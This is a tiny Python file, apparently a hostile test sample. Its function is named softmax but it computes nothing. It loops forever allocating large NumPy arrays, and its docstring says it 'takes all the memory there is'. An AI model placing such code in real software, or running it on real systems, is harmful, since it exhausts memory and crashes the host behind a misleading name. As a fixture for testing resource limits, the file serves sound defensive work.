"""hostile: takes all the memory there is"""

import numpy as np


def softmax(logits):
    hoard = []
    while True:
        hoard.append(np.ones((1024, 1024)))
